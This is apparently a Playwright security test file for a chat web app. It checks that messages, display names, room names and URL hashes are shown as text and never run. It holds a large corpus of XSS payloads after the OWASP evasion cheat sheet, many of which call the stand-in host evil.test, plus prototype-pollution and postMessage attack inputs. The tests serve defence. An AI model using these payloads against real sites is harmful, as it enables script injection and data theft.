"""Rows W in Chromium: the page shows messages and names as text, and never runs them."""

import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.async_api import Browser, Page, WebSocketRoute, expect

from api.config import Settings
from api.limits.throttles import PROFILES_PER_MINUTE
from tests.browser.windows import fill, line, live, say, window
from tests.node import Node, Person, running

pytestmark = [pytest.mark.anyio, pytest.mark.browser]

RUN: Final = "window.wasRun=1,alert(1),fetch('//evil.test/')"
TAGS: Final = (
    *("<script>{0}</script>", "<ScRiPt >{0}</sCrIpT>", "<script src=//evil.test/x.js></script>"),
    *("</script><script>{0}</script>", "<scr<script>ipt>{0}</scr</script>ipt>", "<script\x0b>{0}</script>"),
    *(
        "<img src=x onerror={0}>",
        '<img src="x" onerror="{0}">',
        "<img src=//evil.test/x.png>",
        "<img/src/onerror={0}>",
    ),
    *(
        "<svg onload={0}>",
        "<svg/onload={0}>",
        "<svg><script>{0}</script></svg>",
        "<svg><animate onbegin={0}>",
    ),
    *("<body onload={0}>", "<iframe src=javascript:{0}>", "<iframe srcdoc='<script>{0}</script>'>"),
    *(
        "<iframe src=//evil.test/>",
        "<object data=//evil.test/>",
        "<embed src=//evil.test/>",
        "<base href=//evil.test/>",
    ),
    *("<link rel=stylesheet href=//evil.test/x.css>", "<style>@import '//evil.test/x.css'</style>"),
    *(
        "<meta http-equiv=refresh content='0;url=//evil.test/'>",
        "<form action=//evil.test/><input type=submit>",
    ),
    *("<input autofocus onfocus={0}>", "<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>"),
    *(
        "<details open ontoggle={0}>",
        "<video src=x onerror={0}>",
        "<audio src=x onerror={0}>",
        "<marquee onstart={0}>",
    ),
    *(
        "<a href=javascript:{0}>x</a>",
        "<a href='jav&#x09;ascript:{0}'>x</a>",
        "<math href=javascript:{0}>x</math>",
    ),
    *(
        "javascript:{0}",
        "JaVaScRiPt:{0}",
        "data:text/html,<script>{0}</script>",
        "vbscript:{0}",
        "//evil.test/x.png",
    ),
    *(
        "[x](javascript:{0})",
        "![x](//evil.test/x.png)",
        "<https://evil.test/>",
        "[x]: javascript:{0}",
        "`<b>`{0}",
    ),
    *(
        "'\"><img src=x onerror={0}>",
        "';{0};//",
        '";{0};//',
        "${{{0}}}",
        "{{{{{0}}}}}",
        "#{{{0}}}",
        "<%= {0} %>",
    ),
    *(
        "--><script>{0}</script>",
        "]]><script>{0}</script>",
        "<!--<img src=x onerror={0}>-->",
        "<![CDATA[<b>]]>",
    ),
    *(
        "&lt;script&gt;{0}&lt;/script&gt;",
        "\\u003cscript\\u003e{0}",
        "%3Cscript%3E{0}%3C/script%3E",
        "+ADw-script+AD4-",
    ),
    *("<x onclick={0}>x</x>", "<p style=background:url(//evil.test/)>", "<div style=width:expression({0})>"),
    *(
        "<noscript><p title='</noscript><img src=x onerror={0}>'>",
        "<template><img src=x onerror={0}></template>",
    ),
    *(
        "<table background=//evil.test/>",
        "<isindex type=image src=1 onerror={0}>",
        "<keygen autofocus onfocus={0}>",
    ),
    *("<svg><use href='data:image/svg+xml,<svg onload={0}>'/>", "<svg><image href=//evil.test/ /></svg>"),
    *(
        "<a ping=//evil.test/ href=#>x</a>",
        "<a target=_blank href=//evil.test/>x</a>",
        "<portal src=//evil.test/>",
    ),
    *("\u202e<script>{0}</script>", "\uff1cscript\uff1e{0}\uff1c/script\uff1e", "<\u0000script>{0}"),
)
CORPUS: Final = tuple(
    dict.fromkeys(tag.format(run).replace("\0", "") for tag in TAGS for run in (RUN, "alert`1`"))
)
"""Texts after OWASP's XSS filter evasion cheat sheet. Each makes a call, or asks a foreign address, if it is run."""


MARKUP: Final = json.loads(
    (Path(__file__).parents[2] / "frontend/tests/formatting/attacks.json").read_text(encoding="utf-8")
)
"""Payloads, and the places of Markdown in which they may stand: nested, never closed, escaped, or none that we read."""
FOREIGN: Final = """
([tags, attributes]) => [...document.querySelectorAll('[role=log] .body *')].flatMap(one => [
  ...(tags.includes(one.localName) ? [] : [one.localName]),
  ...one.getAttributeNames().filter(name => !attributes.includes(name)),
  ...(one.localName !== 'a' || /^(https?:\\/\\/[^/@]+\\/|mailto:)/.test(one.href) ? [] : [one.href]),
])
"""
"""What a body holds that no markup may make: other elements, other attributes, and other addresses."""
TAGS_OF_MARKUP: Final = [
    *(
        "a",
        "blockquote",
        "button",
        "code",
        "del",
        "div",
        "em",
        "li",
        "ol",
        "p",
        "path",
        "pre",
        "section",
        "span",
        "strong",
        "svg",
    ),
    *("table", "tbody", "td", "th", "thead", "tr", "ul"),
]
ATTRIBUTES_OF_MARKUP: Final = [
    *(
        "aria-hidden",
        "aria-label",
        "class",
        "d",
        "data-language",
        "dir",
        "height",
        "href",
        "rel",
        "role",
        "tabindex",
        "target",
    ),
    *("title", "type", "value", "viewBox", "width"),
]


class Watch:
    """Notes what a window must never do because of a text: run a call, or ask a foreign address."""

    def __init__(self, page: Page, node: Node) -> None:
        self.seen: list[str] = []
        page.on("dialog", lambda dialog: self.seen.append(dialog.message))
        page.on("popup", lambda popup: self.seen.append(popup.url))
        page.context.on("request", lambda request: self._look(request.url, node))
        self._page = page

    def _look(self, url: str, node: Node) -> None:
        if not url.startswith((node.url, node.ws_url, "data:image/")):
            self.seen.append(url)

    async def has_seen_nothing(self) -> None:
        assert not self.seen
        assert not await self._page.evaluate("window.wasRun")


async def write(person: Person, *bodies: str) -> None:
    for number, body in enumerate(bodies):
        answer = await person.http.post("/rooms/lobby/messages", json={"ref": f"x{number}", "body": body})
        assert answer.status_code == 201, (body, answer.text)


@pytest.fixture
async def patient_node(tmp_path: Path) -> AsyncIterator[Node]:
    """A server that takes a thousand messages and rooms at once."""
    store = f"sqlite:///{tmp_path / 'tailwire.db'}"
    async with running(Settings(store=store, sends_burst=1_000, rooms_per_minute=1_000)) as started:
        yield started


@pytest.mark.every_engine
async def test_w5_what_is_written_is_shown_as_text_and_runs_nothing(
    browser: Browser, patient_node: Node
) -> None:
    assert len(CORPUS) >= 100
    page = await window(browser, patient_node, "alice", viewport={"width": 1300, "height": 900})
    watch = Watch(page, patient_node)
    eve = await patient_node.sign_up("eve")
    await write(eve, *CORPUS, "the last of them")
    await expect(line(page, "the last of them")).to_have_count(1)
    await page.reload()
    jump = page.get_by_role("button", name="Jump to newest")
    await expect(jump.or_(line(page, "the last of them")).first).to_be_visible()
    if await jump.is_visible():  # what came faster than it could be read is unread, and the page opens there
        await jump.click()
    await expect(line(page, "the last of them")).to_have_count(1)
    await watch.has_seen_nothing()


async def test_w5_markup_makes_nothing_but_what_is_allowed(browser: Browser, patient_node: Node) -> None:
    page = await window(browser, patient_node, "alice", viewport={"width": 1300, "height": 900})
    watch = Watch(page, patient_node)
    eve = await patient_node.sign_up("eve")
    payloads = MARKUP["payloads"]  # the SPA's own tests put each into each place
    bodies = [
        place.replace("{0}", payload)
        for number, place in enumerate(MARKUP["places"])
        for payload in payloads[number % 5 :: 5]
    ]
    await eve.http.post("/rooms/lobby/messages", json={"ref": "first", "body": "*first*"})
    await expect(page.locator(".body em")).to_have_text("first")  # what parses markup is loaded from now on
    foreign: list[str] = []
    for begin in range(0, len(bodies), 36):
        batch = bodies[begin : begin + 36]
        for number, body in enumerate((*batch, f"batch {begin}")):
            message = {"ref": f"m{begin}-{number}", "body": body}
            assert (await eve.http.post("/rooms/lobby/messages", json=message)).status_code == 201, body
        await expect(line(page, f"batch {begin}")).to_have_count(1)
        foreign += await page.evaluate(FOREIGN, [TAGS_OF_MARKUP, ATTRIBUTES_OF_MARKUP])
    assert foreign == []
    await watch.has_seen_nothing()


async def test_w5_no_name_runs_anything(browser: Browser, patient_node: Node) -> None:
    page = await window(browser, patient_node, "alice", viewport={"width": 1300, "height": 900})
    watch = Watch(page, patient_node)
    people = [await patient_node.sign_up(f"eve{n}") for n in range(len(CORPUS) // PROFILES_PER_MINUTE + 1)]
    names = 0
    for number, name in enumerate(CORPUS):
        eve = people[number // PROFILES_PER_MINUTE]
        made = await eve.http.post("/rooms", json={"name": name[:80], "topic": name, "visibility": "public"})
        shown = await eve.http.patch("/users/me", json={"display_name": name[:64]})
        assert {made.status_code, shown.status_code} <= {200, 201, 422}
        names += made.status_code == 201
        if number % 10 == 0:
            await write(eve, f"as {number}") if number == 0 else await eve.http.post(
                "/rooms/lobby/messages", json={"ref": f"n{number}", "body": f"as {number}"}
            )
    assert names >= 80
    await expect(line(page, "as 0")).to_have_count(1)
    await page.goto(f"{patient_node.url}/#/rooms")
    await expect(live(page)).to_be_visible()
    await watch.has_seen_nothing()


async def test_w5_no_address_runs_anything(browser: Browser, sqlite_node: Node) -> None:
    page = await window(browser, sqlite_node, "alice")
    watch = Watch(page, sqlite_node)
    await page.evaluate(
        "corpus => { for (const one of corpus) for (const before of ['', '/', '/rooms/', '/login?next='])"
        " location.hash = before + one }",
        list(CORPUS),
    )
    await page.goto(f"{sqlite_node.url}/#/rooms/lobby")
    await say(page, "still here")
    await expect(line(page, "still here")).to_have_count(1)
    await watch.has_seen_nothing()


async def test_w6_what_a_server_says_changes_no_prototype(browser: Browser, sqlite_node: Node) -> None:
    poison = '"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},'

    async def opened(socket: WebSocketRoute) -> None:
        server = socket.connect_to_server()
        server.on_message(lambda text: socket.send("{" + poison + str(text)[1:]))

    context = await browser.new_context()
    await context.route_web_socket("**/ws/messages", opened)
    page = await context.new_page()
    page.on("pageerror", lambda error: pytest.fail(f"the page failed: {error}"))

    async def poisoned(route: Any) -> None:
        answer = await route.fetch()
        text = await answer.text()
        is_object = (
            "json" in answer.headers.get("content-type", "") and text.startswith("{") and len(text) > 2
        )
        await route.fulfill(response=answer, body="{" + poison + text[1:] if is_object else text)

    for path in ("auth", "users", "rooms"):
        await page.route(f"**/{path}/**", poisoned)
    await page.goto(f"{sqlite_node.url}/#/signup")
    await fill(page, "alice", "Create account")
    await expect(live(page)).to_be_visible()
    await page.goto(f"{sqlite_node.url}/#/rooms/lobby")
    await say(page, "hello")
    await expect(line(page, "hello")).to_have_count(1)
    assert await page.evaluate("[({}).polluted, [].polluted, (() => {}).polluted]") == [None] * 3
    await page.unroute_all(behavior="ignoreErrors")  # a request may still be under way


async def test_w2_w4_w7_other_pages_reach_nothing_in_ours(browser: Browser, sqlite_node: Node) -> None:
    page = await window(browser, sqlite_node, "alice")
    watch = Watch(page, sqlite_node)
    messages = [{"type": "logout"}, "javascript:alert(1)", {"__proto__": {"polluted": 1}}, RUN]
    await page.evaluate(
        f"for (const one of {json.dumps(messages)}) {{ postMessage(one, '*'); "
        "new BroadcastChannel('tailwire').postMessage(one) }"
    )
    tried = await page.context.new_page()  # its console names what was refused
    await tried.goto(sqlite_node.url)
    await tried.evaluate(  # not `eval`, which DevTools may use
        "new Promise(done => { try { setTimeout('window.wasRun = 1') } catch {} setTimeout(done, 50) })"
    )
    assert not await tried.evaluate("window.wasRun")
    other = await page.context.new_page()
    await other.goto("data:text/html,<title>evil</title>")
    async with other.expect_popup() as opening:
        await other.evaluate(f"window.held = window.open('{sqlite_node.url}/')")
    popup = await opening.value
    await popup.wait_for_load_state()
    await other.wait_for_function("held.closed")  # COOP cuts the opener off, once the page has come
    assert await popup.evaluate("window.opener") is None
    await say(page, "still here")
    await expect(line(page, "still here")).to_have_count(1)
    await watch.has_seen_nothing()
